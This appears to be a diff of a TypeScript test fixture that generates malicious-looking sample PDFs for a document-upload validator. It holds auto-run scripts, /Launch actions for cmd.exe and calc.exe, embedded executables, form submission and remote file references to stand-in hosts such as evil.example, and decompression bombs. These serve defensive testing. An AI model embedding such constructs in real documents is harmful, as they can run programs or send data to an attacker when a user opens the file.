@@ -1,4 +1,4 @@
-import { deflateSync, gzipSync } from 'node:zlib'
+import { gzipSync } from 'node:zlib'
 import {
   chunk,
   JS,
@@ -14,60 +14,22 @@ import {
 } from './kyc-file-parts.ts'
 import { flate, objectStream, PAGE, pdfOf, streamOf } from './sample-pdf.ts'
 
-const hostilePdfs = (): SampleFile[] => [
+/** PDFs of one empty page that do, hold or are something else besides. */
+export const activePdfs = (): SampleFile[] => [
   { what: 'a script on opening', name: 'a.pdf', content: pdfWith(`/OpenAction ${JS}`) },
   {
-    what: 'a script behind a reference',
-    name: 'b.pdf',
-    content: pdfWith('/OpenAction 9 0 R', { number: 9, value: JS }),
-  },
-  {
-    what: 'a script with escaped letters',
-    name: 'c.pdf',
-    content: pdfWith('/OpenAction << /S /J#61va#53cript /J#53 (x) >>'),
-  },
-  {
     what: 'a script in an object stream',
-    name: 'd.pdf',
+    name: 'b.pdf',
     content: pdfWith('/OpenAction 9 0 R', objectStream(8, [{ number: 9, value: JS }])),
   },
   {
-    what: 'an escaped script in an object stream',
-    name: 'e.pdf',
-    content: with_(objectStream(8, [{ number: 9, value: '<< /S /#4aavaScript /J#53 (x) >>' }])),
-  },
-  {
-    what: 'an object stream without its type',
-    name: 'f.pdf',
-    content: with_(flate(8, `9 0 ${JS}`, '/N 1 /First 4')),
-  },
-  {
-    what: 'an object stream under two filters',
-    name: 'g.pdf',
-    content: with_(
-      streamOf(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', (bytes) =>
-        deflateSync(deflateSync(bytes)),
-      ),
-    ),
-  },
-  {
-    what: 'an object stream that predicts',
-    name: 'h.pdf',
-    content: with_(flate(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>')),
-  },
-  {
-    what: 'the kind of an action as an object of its own',
-    name: 'i.pdf',
-    content: with_({ number: 8, value: '<< /S 9 0 R /F (calc.exe) >>' }, { number: 9, value: '/Launch' }),
-  },
-  {
     what: 'a program to start',
-    name: 'j.pdf',
-    content: with_({ number: 9, value: '<< /S /Launch /F (cmd.exe) >>' }),
+    name: 'c.pdf',
+    content: pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
   },
   {
     what: 'an attached file',
-    name: 'k.pdf',
+    name: 'd.pdf',
     content: pdfWith(
       '/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>',
       { number: 9, value: '<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>' },
@@ -76,112 +38,62 @@ const hostilePdfs = (): SampleFile[] => [
   },
   {
     what: 'a form program (XFA)',
-    name: 'l.pdf',
+    name: 'e.pdf',
     content: pdfWith('/AcroForm << /XFA 9 0 R >>', streamOf(9, '<xdp/>')),
   },
   {
     what: 'a form that sends itself',
-    name: 'm.pdf',
-    content: with_({ number: 9, value: '<< /S /SubmitForm /F (https://evil.example) >>' }),
+    name: 'f.pdf',
+    content: pdfWith('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
   },
-  { what: 'actions of a page', name: 'n.pdf', content: pdfWith(`/AA << /WC ${JS} >>`) },
-  {
-    what: 'another file to go to',
-    name: 'o.pdf',
-    content: with_({ number: 9, value: '<< /S /GoToR /F (//evil/x) >>' }),
-  },
-  { what: 'rich media', name: 'p.pdf', content: with_({ number: 9, value: '<< /Subtype /RichMedia >>' }) },
-  {
-    what: 'a web page on opening',
-    name: 'q.pdf',
-    content: pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
-  },
+  { what: 'actions of a page', name: 'g.pdf', content: pdfWith(`/AA << /WC ${JS} >>`) },
   {
     what: 'a stream of another file',
-    name: 'r.pdf',
+    name: 'h.pdf',
     content: with_(streamOf(9, '', '/F (//evil.example/share)')),
   },
   {
-    what: 'encryption',
-    name: 's.pdf',
-    content: pdfOf(PAGE, '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>'),
-  },
-  {
-    what: 'an object hidden in a string',
-    name: 't.pdf',
-    content: with_({ number: 9, value: `(\n1 0 obj << /Type /Catalog /OpenAction 8 0 R >> endobj )` }),
-  },
-  {
-    what: 'an object hidden in a stream',
-    name: 'u.pdf',
-    content: with_(streamOf(9, `\n1 0 obj << /Type /Catalog >> endobj\n`)),
-  },
-  {
-    what: 'an object hidden in a comment',
-    name: 'v.pdf',
-    content: Buffer.concat([pdfOf(PAGE), text(`% 1 0 obj << /Type /Catalog >> endobj\n%%EOF\n`)]),
-  },
-  {
-    what: 'a stream that says it is longer',
-    name: 'w.pdf',
-    content: with_({ number: 9, value: '<< /Length 900 >>', stream: text('short') }),
-  },
-  {
-    what: 'a key that stands twice',
-    name: 'x.pdf',
-    content: pdfWith('/OpenAction [3 0 R /Fit] /OpenAction null'),
-  },
-  {
-    what: 'a bomb',
-    name: 'y.pdf',
-    content: with_(...Array.from({ length: 8 }, (_, n) => flate(9 + n, Buffer.alloc(45 * MB)))),
-  },
-  {
-    what: 'a bomb in an object stream',
-    name: 'z.pdf',
-    content: with_(flate(9, Buffer.alloc(20 * MB, 32), '/Type /ObjStm /N 1 /First 4')),
-  },
-  {
-    what: 'a picture of a billion pixels',
-    name: 'aa.pdf',
-    content: with_(streamOf(9, 'x', '/Subtype /Image /Width 40000 /Height 40000 /Filter /CCITTFaxDecode')),
-  },
-  { what: 'brackets without an end', name: 'ab.pdf', content: with_({ number: 9, value: '['.repeat(5000) }) },
-  {
-    what: 'objects read over and over',
-    name: 'ac.pdf',
-    content: with_(
-      flate(
-        9,
-        `${'9 0 '.repeat(20_000)}[${'0 '.repeat(60_000)}]`,
-        `/Type /ObjStm /N 20000 /First ${20_000 * 4}`,
-      ),
-    ),
-  },
-  {
-    what: 'a thousand pages',
-    name: 'ad.pdf',
-    content: with_(...Array.from({ length: 60 }, (_, n) => ({ number: 10 + n, value: '<< /Type /Page >>' }))),
-  },
-  { what: 'a cut-off end', name: 'ae.pdf', content: pdfOf(PAGE).subarray(0, 200) },
-  { what: 'only a header', name: 'af.pdf', content: text('%PDF-1.7\n%%EOF\n') },
-  {
-    what: 'something before the header',
-    name: 'ag.pdf',
-    content: Buffer.concat([text('<html>'), pdfOf(PAGE)]),
+    what: 'a bomb that no page shows',
+    name: 'i.pdf',
+    content: with_(...Array.from({ length: 3 }, (_, n) => flate(9 + n, Buffer.alloc(45 * MB)))),
   },
   {
     what: 'an archive behind it',
-    name: 'ah.pdf',
+    name: 'j.pdf',
     content: Buffer.concat([pdfOf(PAGE), zipOf('x.exe', text('MZ'))]),
   },
   {
     what: 'an older revision with a script',
-    name: 'ai.pdf',
+    name: 'k.pdf',
     content: Buffer.concat([
       pdfOf([...PAGE, { number: 9, value: JS }]),
       text('9 0 obj\nnull\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
     ]),
+  },
+]
+
+const pages = (count: number, box: string): Buffer =>
+  pdfOf([
+    { number: 1, value: '<< /Type /Catalog /Pages 2 0 R >>' },
+    { number: 2, value: `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>` },
+    { number: 3, value: `<< /Type /Page /Parent 2 0 R /MediaBox ${box} >>` },
+  ])
+
+const hostilePdfs = (): SampleFile[] => [
+  {
+    what: 'a lock of another program',
+    name: 'b.pdf',
+    content: pdfOf(PAGE, '/Root 1 0 R /Encrypt << /Filter /Foreign >>'),
+  },
+  { what: 'eleven pages', name: 'c.pdf', content: pages(11, '[0 0 200 200]') },
+  { what: 'a hundred thousand pages', name: 'd.pdf', content: pages(100_000, '[0 0 200 200]') },
+  { what: 'no page', name: 'e.pdf', content: pages(0, '[0 0 200 200]') },
+  { what: 'a cut-off end', name: 'f.pdf', content: pdfOf(PAGE).subarray(0, 200) },
+  { what: 'only a header', name: 'g.pdf', content: text('%PDF-1.7\n%%EOF\n') },
+  {
+    what: 'something before the header',
+    name: 'h.pdf',
+    content: Buffer.concat([text('<html>'), pdfOf(PAGE)]),
   },
 ]
 
